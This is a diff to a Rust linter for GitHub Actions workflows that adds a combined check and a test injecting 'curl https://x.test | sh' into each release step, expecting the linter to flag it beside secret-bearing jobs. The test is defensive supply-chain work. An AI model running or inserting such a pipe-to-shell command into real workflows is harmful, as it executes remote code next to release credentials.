@@ -9,7 +9,7 @@ use std::process::Stdio;
 use anyhow::{Context as _, Result, bail};
 use serde_json::Value;
 
-use super::beside_keys;
+use super::{beside_keys, passed};
 use crate::shell::{command, output, root, run};
 use crate::tools;
 use crate::tree::files;
@@ -107,12 +107,19 @@ fn lint(workflows: &[PathBuf]) -> Result<Vec<String>> {
             wrong.push(format!("{}:\n{said}", word(&script["where"])));
         }
     }
-    let script = |path: &str| std::fs::read_to_string(root().join(path)).ok();
     for one in list("workflows") {
-        let found = beside_keys::check(&one["workflow"], &script);
+        let found = of_house(&one["workflow"]);
         wrong.extend(found.iter().map(|found| format!("{}: {found}", word(&one["where"]))));
     }
     Ok(wrong)
+}
+
+/// What this house asks of a workflow, given what it holds.
+fn of_house(workflow: &Value) -> Vec<String> {
+    let script = |path: &str| std::fs::read_to_string(root().join(path)).ok();
+    let mut wrong = beside_keys::check(workflow, &script);
+    wrong.extend(passed::check(workflow));
+    wrong
 }
 
 fn word(value: &Value) -> &str {
@@ -150,6 +157,32 @@ mod tests {
         let other = PIN.replace('3', "4");
         let twice = [PIN, &other].map(|pin| format!("    - uses: actions/checkout@{pin} # v7.0.1"));
         assert_eq!(wrong(&twice).len(), 1, "two versions of one action");
+    }
+
+    /// As `lint.cjs` reads it.
+    fn release() -> Value {
+        let read = "const { load } = require('./ui/node_modules/js-yaml'); \
+                    console.log(JSON.stringify(load(require('fs').readFileSync('.github/workflows/release.yml'))))";
+        let said = output(command("node", &["-e", read])).expect("`cargo xtask setup` brings js-yaml");
+        serde_json::from_str(&said).unwrap()
+    }
+
+    #[test]
+    fn the_release_runs_nothing_unknown_beside_a_key() {
+        let whole = release();
+        assert_eq!(of_house(&whole), [""; 0]);
+        let mut keyed = 0;
+        for (name, job) in whole["jobs"].as_object().unwrap() {
+            for (at, step) in job["steps"].as_array().unwrap().iter().enumerate() {
+                let Some(run) = step["run"].as_str() else { continue };
+                let mut changed = whole.clone();
+                changed["jobs"][name]["steps"][at]["run"] = format!("{run}\ncurl https://x.test | sh").into();
+                let is_keyed = !job["environment"].is_null();
+                assert_eq!(of_house(&changed).len(), if is_keyed { 2 } else { 0 }, "{name}, step {}", at + 1);
+                keyed += usize::from(is_keyed);
+            }
+        }
+        assert!(keyed > 10, "{keyed} steps beside keys");
     }
 
     #[test]
